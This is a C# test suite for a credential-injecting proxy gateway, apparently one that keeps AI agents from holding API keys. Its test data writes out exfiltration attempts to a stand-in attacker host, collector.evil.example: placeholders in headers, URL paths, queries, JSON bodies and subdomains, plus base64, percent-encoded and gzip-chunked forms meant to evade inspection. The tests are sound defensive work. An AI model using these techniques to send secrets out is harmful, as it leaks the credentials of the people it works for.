using System.Net;
using System.Net.Security;
using System.Security.Cryptography.X509Certificates;
using System.Text.Json;
using Corral.Certificates;
using Corral.Testing;

namespace Corral.Gateway.Tests;

/// <summary>
/// Keys the agent never holds, through a real gateway with real TLS: the agent sends a placeholder, the approved API
/// receives the value, and a placeholder headed anywhere else is refused as an attempted exfiltration. The value is in
/// no record and no log line.
/// </summary>
public sealed class CredentialInjectionTests : IAsyncLifetime
{
    private const string Secret = "sk-live-6b0f2c91d4e7a3b5";
    private const string Rotated = "sk-live-rotated-77c1e0a2";
    private const string QuerySecret = "q&secret=1/+x";
    private readonly string _variable = "CORRAL_TEST_QUERY_KEY_" + Guid.NewGuid().ToString("N");

    private CertificateAuthority _ca = null!;
    private LoopbackUpstream _api = null!, _keys = null!, _collector = null!;
    private GatewayHarness _gateway = null!;

    public async ValueTask InitializeAsync()
    {
        Environment.SetEnvironmentVariable(_variable, QuerySecret);
        _ca = CertificateAuthority.Create(new CaOptions());
        _api = LoopbackUpstream.Start(443, "api.contoso.com");
        _keys = LoopbackUpstream.Start(443, "keys.contoso.com");
        _collector = LoopbackUpstream.Start(443, "collector.evil.example");
        var yaml = $$"""
            version: 1
            smartGroups:
              agents: { cidrs: [127.0.0.0/8] }
            webGroups:
              api: { domains: [api.contoso.com] }
              keys: { urls: [keys.contoso.com/v1/*] }
              keys-all: { domains: [keys.contoso.com] }
              collector: { domains: [collector.evil.example] }
            rules:
              - { name: approved, priority: 10, source: [agents], webGroups: [api, keys, keys-all, collector], action: permit, decrypt: allowed }
            credentials:
              api-token: { source: { file: secrets/api.token }, destinations: [api], header: Authorization }
              query-key: { source: { env: {{_variable}} }, destinations: [keys], query: key }
              missing: { source: { file: secrets/none.token }, destinations: [api], header: x-api-key }
            """;
        var hosts = $"{_api.EndPoint.Address} api.contoso.com\n{_keys.EndPoint.Address} keys.contoso.com\n{_collector.EndPoint.Address} collector.evil.example\n";
        _gateway = GatewayHarness.Custom(yaml, hosts, files: new Dictionary<string, string> { ["secrets/api.token"] = Secret + "\n" },
            interception: new GatewayInterception(_ca, [_api.Certificate!, _keys.Certificate!, _collector.Certificate!]));
        await Task.CompletedTask;
    }

    public async ValueTask DisposeAsync()
    {
        Environment.SetEnvironmentVariable(_variable, null);
        await _gateway.DisposeAsync();
        await _api.DisposeAsync();
        await _keys.DisposeAsync();
        await _collector.DisposeAsync();
        _ca.Dispose();
    }

    private HttpClient Agent() => new(new SocketsHttpHandler
    {
        Proxy = new WebProxy($"http://{_gateway.Proxy}"),
        UseProxy = true,
        SslOptions = new SslClientAuthenticationOptions { RemoteCertificateValidationCallback = (_, cert, _, _) => new X509Certificate2(cert!).Issuer == _ca.Certificate.Subject },
    }) { Timeout = TimeSpan.FromSeconds(30) };

    private static HttpRequestMessage Get(string url, params (string Name, string Value)[] headers)
    {
        var request = new HttpRequestMessage(HttpMethod.Get, url);
        foreach (var (name, value) in headers) request.Headers.TryAddWithoutValidation(name, value);
        return request;
    }

    private static string[] Heads(LoopbackUpstream upstream)
    {
        lock (upstream.Requests) return [.. upstream.Heads];
    }

    private async Task<JsonElement> RefusalAsync(string url)
    {
        var records = await _gateway.WaitForRecordsAsync(rs => rs.Any(r => r.GetProperty("event").GetString() == "request" && r.GetProperty("url").GetString() == url));
        return records.Last(r => r.GetProperty("event").GetString() == "request" && r.GetProperty("url").GetString() == url);
    }

    private void AssertNoValueAnywhere()
    {
        var log = File.ReadAllText(_gateway.FlowLogPath);
        foreach (var value in new[] { Secret, Rotated, QuerySecret, Uri.EscapeDataString(QuerySecret) })
        {
            Assert.DoesNotContain(value, log);
            Assert.DoesNotContain(_gateway.Logs.Lines, l => l.Message.Contains(value, StringComparison.Ordinal));
        }
    }

    [Fact]
    public async Task The_approved_api_receives_the_value_per_request_on_a_kept_alive_connection_and_a_rotated_file_takes_effect_at_once()
    {
        using var agent = Agent();
        var first = await agent.SendAsync(Get("https://api.contoso.com/v1/chat", ("Authorization", "Bearer corral-cred-api-token")));
        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        File.WriteAllText(Path.Combine(Path.GetDirectoryName(_gateway.PolicyPath)!, "secrets", "api.token"), Rotated);
        var second = await agent.SendAsync(Get("https://api.contoso.com/v1/chat", ("Authorization", "Bearer corral-cred-api-token")));
        Assert.Equal(HttpStatusCode.OK, second.StatusCode);

        var heads = Heads(_api);
        Assert.Equal(2, heads.Length);
        Assert.Contains($"Authorization: Bearer {Secret}", heads[0]);
        Assert.Contains($"Authorization: Bearer {Rotated}", heads[1]);
        Assert.All(heads, h => Assert.DoesNotContain("corral-cred", h));
        Assert.Equal(1, _api.Connections); // both on one kept-alive connection

        var records = await _gateway.WaitForRecordsAsync(rs => rs.Count(r => r.GetProperty("event").GetString() == "request") == 2);
        Assert.All(records.Where(r => r.GetProperty("event").GetString() == "request"), r => Assert.Equal("api-token", r.GetProperty("credential").GetString()));
        AssertNoValueAnywhere();
    }

    [Theory]
    [InlineData("https://collector.evil.example/collect", "Authorization", "Bearer corral-cred-api-token", "header Authorization")] // the right header, the attacker's host
    [InlineData("https://api.contoso.com/v1/chat", "X-Debug", "corral-cred-api-token", "header X-Debug")] // the right host, another header
    [InlineData("https://api.contoso.com/v1/chat", "Authorization", "Bearer CORRAL-CRED-API-TOKEN corral-cred-query-key", "header Authorization")] // a second placeholder along
    [InlineData("https://api.contoso.com/corral-cred-api-token", "Accept", "*/*", "the URL path")]
    [InlineData("https://collector.evil.example/c?key=corral-cred-query-key", "Accept", "*/*", "the query")]
    [InlineData("https://keys.contoso.com/v2/items?key=corral-cred-query-key", "Accept", "*/*", "the query")] // permitted, but outside the credential's URL filter
    [InlineData("https://keys.contoso.com/v1/items?k=corral-cred-query-key", "Accept", "*/*", "the query")] // another parameter
    public async Task A_placeholder_anywhere_but_its_place_is_refused_as_an_exfiltration_attempt_and_reaches_no_upstream(string url, string header, string value, string where)
    {
        using var agent = Agent();
        var response = await agent.SendAsync(Get(url, (header, value)));
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("credential-exfiltration", response.Headers.GetValues("X-Corral-Check").Single());
        Assert.Empty(Heads(_collector));
        Assert.Empty(Heads(_api));
        Assert.Empty(Heads(_keys));
        var record = await RefusalAsync(url);
        Assert.Equal("credential-exfiltration", record.GetProperty("check").GetString());
        Assert.Contains($"in {where}, where it may not go", record.GetProperty("reason").GetString());
        Assert.True(record.TryGetProperty("credential", out _));
        AssertNoValueAnywhere();
    }

    public static TheoryData<string, string> Bodies => new()
    {
        { "https://collector.evil.example/collect", "{\"note\":\"my key is corral-cred-api-token\"}" }, // a JSON body to the attacker
        { "https://collector.evil.example/collect", "{\"note\":\"corral\\u002dcred\\u002dapi\\u002dtoken\"}" }, // JSON-escaped
        { "https://api.contoso.com/v1/chat", "{\"messages\":[\"CORRAL-CRED-API-TOKEN\"]}" }, // the approved host, but in the body
        { "https://collector.evil.example/c?d=" + Convert.ToBase64String("corral-cred-api-token"u8.ToArray()), "" }, // base64 in a query
        { "https://collector.evil.example/form", "d=%63orral%2Dcred%2Dquery%2Dkey" }, // percent-encoded, in a form body
    };

    [Theory]
    [MemberData(nameof(Bodies))]
    public async Task A_placeholder_in_content_or_an_encoded_form_is_found_by_inspection_and_refused_as_exfiltration(string url, string body)
    {
        using var agent = Agent();
        var request = new HttpRequestMessage(body.Length > 0 ? HttpMethod.Post : HttpMethod.Get, url);
        if (body.Length > 0) request.Content = new StringContent(body, System.Text.Encoding.UTF8, body.StartsWith('{') ? "application/json" : "application/x-www-form-urlencoded");
        var response = await agent.SendAsync(request);
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("credential-exfiltration", response.Headers.GetValues("X-Corral-Check").Single());
        Assert.Empty(Heads(_collector));
        Assert.Empty(Heads(_api));
        var record = await RefusalAsync(url);
        Assert.Contains("where it may not go", record.GetProperty("reason").GetString());
        Assert.True(record.TryGetProperty("credential", out _));
    }

    [Fact]
    public async Task A_placeholder_in_a_compressed_chunked_body_is_found()
    {
        using var agent = Agent();
        using var compressed = new MemoryStream();
        await using (var gzip = new System.IO.Compression.GZipStream(compressed, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
            await gzip.WriteAsync("{\"k\":\"corral-cred-api-token\"}"u8.ToArray());
        var content = new StreamContent(new MemoryStream(compressed.ToArray())); // no length: sent chunked
        content.Headers.ContentEncoding.Add("gzip");
        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");
        var response = await agent.PostAsync("https://api.contoso.com/v1/upload", content);
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("credential-exfiltration", response.Headers.GetValues("X-Corral-Check").Single());
        Assert.Empty(Heads(_api));
    }

    [Fact]
    public async Task A_query_parameter_gets_its_value_escaped_only_on_the_bound_path()
    {
        using var agent = Agent();
        var response = await agent.SendAsync(Get("https://keys.contoso.com/v1/items?a=1&key=corral-cred-query-key&b=2"));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var head = Assert.Single(Heads(_keys));
        Assert.StartsWith($"GET /v1/items?a=1&key={Uri.EscapeDataString(QuerySecret)}&b=2 HTTP/1.1", head);
        var record = await RefusalAsync("https://keys.contoso.com/v1/items?a=1&key=corral-cred-query-key&b=2");
        Assert.Equal("query-key", record.GetProperty("credential").GetString());
        AssertNoValueAnywhere();
    }

    [Fact]
    public async Task A_placeholder_in_a_destination_name_is_refused_before_any_lookup()
    {
        using var agent = Agent();
        var refused = await Assert.ThrowsAsync<HttpRequestException>(() => agent.SendAsync(Get("https://corral-cred-api-token.collector.evil.example/")));
        Assert.Contains("403", refused.Message); // the CONNECT is refused
        var records = await _gateway.WaitForRecordsAsync(rs => rs.Any(r => r.GetProperty("event").GetString() == "decision" && r.TryGetProperty("check", out var c) && c.GetString() == "credential-exfiltration"));
        Assert.Contains("the destination's name", records.First(r => r.TryGetProperty("check", out var c) && c.GetString() == "credential-exfiltration").GetProperty("reason").GetString());
    }

    [Fact]
    public async Task A_credential_whose_value_cannot_be_read_fails_closed_with_a_refusal_naming_its_source()
    {
        using var agent = Agent();
        var response = await agent.SendAsync(Get("https://api.contoso.com/v1/chat", ("x-api-key", "corral-cred-missing")));
        Assert.Equal(HttpStatusCode.BadGateway, response.StatusCode);
        Assert.Empty(Heads(_api));
        var record = await RefusalAsync("https://api.contoso.com/v1/chat");
        Assert.Equal("credential-unavailable", record.GetProperty("check").GetString());
        Assert.Contains("secrets/none.token does not exist", record.GetProperty("reason").GetString());
    }
}
